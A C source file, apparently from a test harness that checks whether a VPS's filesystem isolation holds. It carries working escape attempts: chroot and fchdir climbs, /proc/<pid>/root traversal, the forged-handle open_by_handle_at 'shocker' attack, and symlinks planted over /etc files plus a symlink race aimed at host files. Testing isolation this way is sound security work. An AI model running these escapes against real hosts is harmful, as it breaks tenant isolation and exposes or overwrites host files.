/* Filesystem escapes: "..", chroot, fds, /proc/<pid>/root, file handles, and
 * the symlinks planted for vzd's writes into /etc. */
#include "attack.h"

#include <sched.h>
#include <time.h>
#include <sys/mount.h>


/* Every host marker path, looked up under PREFIX ("" or "/proc/1/root"...):
 * found = escape. Returns how many were found. */
static int fs_markers_reachable(const char *prefix, const char *how) {
    char words[16][256];
    int n = split_env("VZSEC_MARKERS", ":", words, 16), found = 0;
    for (int i = 0; i < n; i++) {
        char path[600];
        struct stat st;
        snprintf(path, sizeof path, "%s%s", prefix, words[i]);
        if (lstat(path, &st) == 0) {
            escape_note("host file %s reachable as %s (%s)", words[i], path, how);
            found++;
        }
    }
    return found;
}

static void fs_compare_root(const char *path, const struct stat *st, const char *how) {
    if (same_inode(st, &vzsec_root)) return;
    escape_note("%s (%s) is %lu:%lu, not the VPS root %lu:%lu", path, how,
                (unsigned long)st->st_dev, (unsigned long)st->st_ino,
                (unsigned long)vzsec_root.st_dev, (unsigned long)vzsec_root.st_ino);
}

ATTACK(fs_dotdot, "climb past the VPS root with .. (paths, /proc links, chdir)") {
    (void)argc, (void)argv;
    static const char *paths[] = {
        "/..", "/../../../../../../../..", "/proc/self/root/..", "/proc/self/root/../../..",
        "/proc/1/root/../../..", "/proc/self/cwd/../../../..", "/dev/../..", "/proc/../..",
        "/sys/../..", "/sys/fs/../../..", "/tmp/../..", "/run/../..", "/dev/pts/../../..",
    };
    int tried = 0;
    for (size_t i = 0; i < sizeof paths / sizeof paths[0]; i++) {
        struct stat st;
        if (stat(paths[i], &st) < 0) continue;
        tried++;
        fs_compare_root(paths[i], &st, "stat");
    }
    if (chdir("/") == 0) {
        for (int i = 0; i < 64; i++)
            if (chdir("..") < 0) break;
        struct stat st;
        if (stat(".", &st) == 0) fs_compare_root("cwd after 64x chdir(..)", &st, "chdir");
    }
    int fd = open("/", O_RDONLY | O_DIRECTORY);
    struct stat top;
    if (fd >= 0 && climb_to_top(fd, &top) == 0) fs_compare_root("openat(..) from /", &top, "openat");
    if (fd >= 0) close(fd);
    static const char *prefixes[] = {"", "/..", "/../../../..", "/proc/self/root", "/proc/1/root"};
    for (size_t i = 0; i < sizeof prefixes / sizeof prefixes[0]; i++)
        fs_markers_reachable(prefixes[i], "path lookup");
    block_note("%d paths with .. and a 64-step chdir climb all end at the VPS root; no host marker reachable",
               tried);
    return finish();
}

ATTACK(fs_chroot, "chroot into a subdirectory without chdir, climb .., chroot(\".\")") {
    (void)argc, (void)argv;
    mkdir("/root/vzsec-jail", 0700);
    if (chdir("/root") < 0) return verdict_error("chdir /root: %s", ename(errno));
    if (chroot("vzsec-jail") < 0) return verdict_blocked("chroot: %s", ename(errno));
    for (int i = 0; i < 256; i++)
        if (chdir("..") < 0) break;
    if (chroot(".") < 0) return verdict_blocked("second chroot(.): %s", ename(errno));
    struct stat st;
    if (stat("/", &st) < 0) return verdict_error("stat / after the climb: %s", ename(errno));
    fs_compare_root("/ after chroot, 256x chdir(..), chroot(.)", &st, "chroot climb");
    fs_markers_reachable("", "after the chroot climb");
    struct stat probe;
    if (stat("/conf", &probe) == 0 && stat("/private", &probe) == 0)
        escape_note("the storage root (conf/, private/) is visible after the climb");
    block_note("the climb ends at the VPS root (%lu:%lu)", (unsigned long)st.st_dev,
               (unsigned long)st.st_ino);
    return finish();
}

/* An fd to a directory is a way out when climbing from it ends somewhere
 * else than the VPS root (runc CVE-2024-21626 leaked such an fd). */
static void fs_check_dir_fd(int fd, const char *what) {
    struct stat top;
    if (climb_to_top(fd, &top) != 0) return;
    fs_compare_root(what, &top, "climb from the fd");
}

ATTACK(fs_fchdir, "keep an fd to /, chroot away, fchdir back and climb; climb from inherited fds") {
    (void)argc, (void)argv;
    int keep = open("/", O_RDONLY | O_DIRECTORY);
    if (keep < 0) return verdict_error("open /: %s", ename(errno));
    mkdir("/root/vzsec-jail2", 0700);
    if (chroot("/root/vzsec-jail2") < 0) return verdict_blocked("chroot: %s", ename(errno));
    if (chdir("/") < 0) return verdict_error("chdir / in the jail: %s", ename(errno));
    if (fchdir(keep) < 0) return verdict_blocked("fchdir to the kept fd: %s", ename(errno));
    for (int i = 0; i < 256; i++)
        if (chdir("..") < 0) break;
    if (chroot(".") < 0) return verdict_blocked("chroot(.): %s", ename(errno));
    struct stat st;
    stat("/", &st);
    fs_compare_root("/ after fchdir(kept fd), climb, chroot(.)", &st, "fchdir climb");
    fs_markers_reachable("", "after the fchdir climb");
    /* fds we were born with, and every directory fd of every process. */
    int others = 0;
    for (int fd = 3; fd < 1024; fd++) {
        if (fd == keep) continue;
        struct stat fst;
        if (fstat(fd, &fst) < 0) continue;
        others++;
        char what[64];
        snprintf(what, sizeof what, "inherited fd %d", fd);
        if (S_ISDIR(fst.st_mode)) fs_check_dir_fd(fd, what);
    }
    DIR *proc = opendir("/proc");
    int dirfds = 0;
    struct dirent *e;
    while (proc && (e = readdir(proc))) {
        if (e->d_name[0] < '0' || e->d_name[0] > '9') continue;
        char path[300];
        snprintf(path, sizeof path, "/proc/%s/fd", e->d_name);
        DIR *fds = opendir(path);
        struct dirent *f;
        while (fds && (f = readdir(fds))) {
            if (f->d_name[0] == '.') continue;
            char link[600];
            snprintf(link, sizeof link, "%s/%s", path, f->d_name);
            int fd = open(link, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
            if (fd < 0) continue;
            dirfds++;
            fs_check_dir_fd(fd, link);
            close(fd);
        }
        if (fds) closedir(fds);
    }
    if (proc) closedir(proc);
    block_note("fchdir to an fd of / and climbing ends at the VPS root; %d extra inherited fds, "
               "%d directory fds of VPS processes all lead back to the VPS root",
               others, dirfds);
    return finish();
}

ATTACK(fs_proc_root, "/proc/<pid>/root and /cwd of every visible pid and of host pids") {
    (void)argc, (void)argv;
    int seen = 0;
    DIR *proc = opendir("/proc");
    struct dirent *e;
    while (proc && (e = readdir(proc))) {
        if (e->d_name[0] < '0' || e->d_name[0] > '9') continue;
        char path[300];
        struct stat st;
        snprintf(path, sizeof path, "/proc/%s/root", e->d_name);
        if (stat(path, &st) == 0) {
            seen++;
            fs_compare_root(path, &st, "stat");
        }
        snprintf(path, sizeof path, "/proc/%s/cwd", e->d_name);
        int fd = open(path, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
        if (fd >= 0) {
            fs_check_dir_fd(fd, path);
            close(fd);
        }
        snprintf(path, sizeof path, "/proc/%s/root", e->d_name);
        fs_markers_reachable(path, "through /proc/<pid>/root");
    }
    if (proc) closedir(proc);
    char pids[16][256];
    int n = split_env("VZSEC_HOST_PIDS", " ", pids, 16), absent = 0;
    for (int i = 0; i < n; i++) {
        char path[300];
        struct stat st;
        snprintf(path, sizeof path, "/proc/%s/root", pids[i]);
        if (stat(path, &st) < 0) {
            say("%s: %s", path, ename(errno));
            absent++;
            continue;
        }
        /* The number exists in here: it must be one of the VPS's own. */
        fs_compare_root(path, &st, "host pid number");
        snprintf(path, sizeof path, "/proc/%s/root", pids[i]);
        fs_markers_reachable(path, "through a host pid's /proc entry");
    }
    block_note("%d processes visible, every /proc/<pid>/root is the VPS root and every cwd inside "
               "it; %d of %d host pids absent (ENOENT), the rest are VPS processes",
               seen, absent, n);
    return finish();
}

ATTACK(fs_open_by_handle, "open_by_handle_at (shocker): open the storage disk's root by inode") {
    (void)argc, (void)argv;
    struct {
        struct file_handle fh;
        unsigned char buf[MAX_HANDLE_SZ];
    } h;
    int mount_id;
    memset(&h, 0, sizeof h);
    h.fh.handle_bytes = MAX_HANDLE_SZ;
    if (name_to_handle_at(AT_FDCWD, "/", &h.fh, &mount_id, 0) < 0)
        say("name_to_handle_at /: %s (going on with a forged handle)", ename(errno));
    else
        say("handle of /: type %d, %u bytes", h.fh.handle_type, h.fh.handle_bytes);
    int mfd = open("/", O_RDONLY | O_DIRECTORY);
    /* ext4/xfs FILEID_INO32_GEN: inode 2 (the filesystem's root), gen 0. */
    struct {
        struct file_handle fh;
        uint32_t ino_gen[2];
    } forged = {{8, 1}, {2, 0}};
    int fd = open_by_handle_at(mfd, &forged.fh, O_RDONLY | O_DIRECTORY);
    if (fd < 0) {
        int err = errno;
        int fd2 = open_by_handle_at(mfd, &h.fh, O_RDONLY);
        if (fd2 >= 0) {
            escape_note("open_by_handle_at works (reopened / by its own handle)");
            close(fd2);
        }
        if (err == EPERM || err == EACCES || err == ENOSYS)
            block_note("open_by_handle_at(inode 2): %s", ename(err));
        else
            escape_note("open_by_handle_at is allowed (inode 2: %s, i.e. the call ran)", ename(err));
        return finish();
    }
    struct stat st;
    fstat(fd, &st);
    char names[512] = "";
    DIR *d = fdopendir(fd);
    struct dirent *e;
    while (d && (e = readdir(d)))
        if (strlen(names) + strlen(e->d_name) + 2 < sizeof names) {
            strcat(names, e->d_name);
            strcat(names, " ");
        }
    if (same_inode(&st, &vzsec_root))
        escape_note("open_by_handle_at allowed (root inode of the VPS's own filesystem)");
    else
        escape_note("opened the storage disk's root directory by handle (%lu:%lu), entries: %s",
                    (unsigned long)st.st_dev, (unsigned long)st.st_ino, names);
    return finish();
}

/* --- symlinks planted for vzd ------------------------------------------------------ */
/* The runner plants, then drives `vzctl set` from the host, and checks its
 * sentinels: these only set the trap (READY). */

static const char *fs_etc_files[] = {"resolv.conf", "hostname", "hosts"};

static int fs_plant(const char *file, const char *target) {
    char path[300], tmp[310];
    snprintf(path, sizeof path, "/etc/%s", file);
    snprintf(tmp, sizeof tmp, "%s.vzsec-tmp", path);
    unlink(tmp);
    if (symlink(target, tmp) < 0) return errno;
    if (rename(tmp, path) < 0) return errno;
    return 0;
}

ATTACK(fs_symlink_files, "plant /etc/{resolv.conf,hostname,hosts} -> /../../..<host file>") {
    /* argv: the host files to aim at, one per /etc file. */
    if (argc < 4) return verdict_error("usage: fs_symlink_files RESOLV HOSTNAME HOSTS");
    char done[600] = "";
    for (int i = 0; i < 3; i++) {
        char target[400];
        snprintf(target, sizeof target, "/../../../../../../..%s", argv[1 + i]);
        int err = fs_plant(fs_etc_files[i], target);
        if (err) return verdict_error("plant /etc/%s: %s", fs_etc_files[i], ename(err));
        snprintf(done + strlen(done), sizeof done - strlen(done), "%s/etc/%s -> %s",
                 i ? ", " : "", fs_etc_files[i], target);
    }
    return verdict_ready("planted %s", done);
}

ATTACK(fs_symlink_etc, "replace /etc with a symlink (to / or to a host directory)") {
    if (argc < 2) return verdict_error("usage: fs_symlink_etc TARGET");
    struct stat st;
    if (lstat("/etc.vzsec-saved", &st) < 0 && rename("/etc", "/etc.vzsec-saved") < 0)
        return verdict_error("rename /etc: %s", ename(errno));
    unlink("/etc");
    if (symlink(argv[1], "/etc") < 0) return verdict_error("symlink /etc: %s", ename(errno));
    return verdict_ready("/etc -> %s", argv[1]);
}

ATTACK(fs_symlink_race, "flip /etc files between a file and a symlink to a host file while vzd writes them") {
    /* argv: SECONDS RESOLV HOSTNAME HOSTS */
    if (argc < 5) return verdict_error("usage: fs_symlink_race SECONDS RESOLV HOSTNAME HOSTS");
    int secs = atoi(argv[1]);
    time_t end = time(NULL) + secs;
    long flips = 0;
    char tmpf[64];
    snprintf(tmpf, sizeof tmpf, "/etc/.vzsec-race-file");
    while (time(NULL) < end) {
        for (int i = 0; i < 3; i++) {
            char target[400], path[300];
            snprintf(target, sizeof target, "/../../../../../../..%s", argv[2 + i]);
            fs_plant(fs_etc_files[i], target);
            snprintf(path, sizeof path, "/etc/%s", fs_etc_files[i]);
            int fd = open(tmpf, O_WRONLY | O_CREAT | O_TRUNC, 0644);
            if (fd >= 0) close(fd);
            rename(tmpf, path);
            flips++;
        }
    }
    for (int i = 0; i < 3; i++) {
        char target[400];
        snprintf(target, sizeof target, "/../../../../../../..%s", argv[2 + i]);
        fs_plant(fs_etc_files[i], target);
    }
    return verdict_ready("flipped /etc/{resolv.conf,hostname,hosts} %ld times in %d s, left as symlinks",
                         flips, secs);
}

ATTACK(_restore_etc, "helper: undo fs_symlink_etc and the planted links") {
    (void)argc, (void)argv;
    struct stat st;
    if (lstat("/etc.vzsec-saved", &st) == 0) {
        unlink("/etc");
        rename("/etc.vzsec-saved", "/etc");
    }
    for (int i = 0; i < 3; i++) {
        char path[300];
        snprintf(path, sizeof path, "/etc/%s", fs_etc_files[i]);
        if (lstat(path, &st) == 0 && S_ISLNK(st.st_mode)) unlink(path);
        int fd = open(path, O_WRONLY | O_CREAT | O_NOFOLLOW, 0644);
        if (fd >= 0) close(fd);
    }
    unlink("/resolv.conf");
    unlink("/hostname");
    unlink("/hosts");
    return verdict_ready("restored /etc");
}
